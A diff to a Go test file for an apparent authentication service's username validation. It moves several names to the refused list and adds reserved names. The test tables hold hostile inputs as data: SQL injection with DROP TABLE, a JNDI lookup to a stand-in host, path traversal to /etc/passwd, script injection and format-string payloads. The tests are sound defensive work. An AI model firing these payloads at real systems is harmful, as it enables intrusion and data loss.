@@ -71,6 +71,16 @@ func namesThatAreRefused(t *testing.T, f *fixture) {
 		"quoted local part":      `"a b"@example.com`,
 		"SQL":                    "' OR 1=1 --",
 		"SQL, stacked":           "x'; DROP TABLE users; --",
+		"a percent sign":         "%",
+		"one dot":                ".",
+		"two dots":               "..",
+		"a dash":                 "-",
+		"a flag":                 "--yes",
+		"null":                   "null",
+		"undefined":              "undefined",
+		"an operator":            "Admin",
+		"root, in full width":    "ｒｏｏｔ",
+		"the service itself":     "authctl",
 	} {
 		t.Run(row, func(t *testing.T) {
 			hashes := f.svc.HashStats().Run
@@ -86,7 +96,6 @@ func namesThatAreRefused(t *testing.T, f *fixture) {
 func namesThatAreData(t *testing.T, f *fixture) {
 	for row, name := range map[string]string{
 		"SQL without spaces":     "'OR/**/1=1--",
-		"a percent sign":         "%",
 		"printf":                 "%s%n%x",
 		"JNDI":                   "${jndi:ldap://evil.test/x}",
 		"a template":             "{{7*7}}",
@@ -94,12 +103,6 @@ func namesThatAreData(t *testing.T, f *fixture) {
 		"an operator of NoSQL":   `{"$gt":""}`,
 		"a path":                 "../../etc/passwd",
 		"a tag":                  "<script>alert(1)</script>",
-		"one dot":                ".",
-		"two dots":               "..",
-		"a dash":                 "-",
-		"a flag":                 "--yes",
-		"null":                   "null",
-		"undefined":              "undefined",
 		"two at signs":           "a@evil@corp",
 		"an address":             "Bob+tag@Example.COM",
 		"a comment":              "a(b)@c",
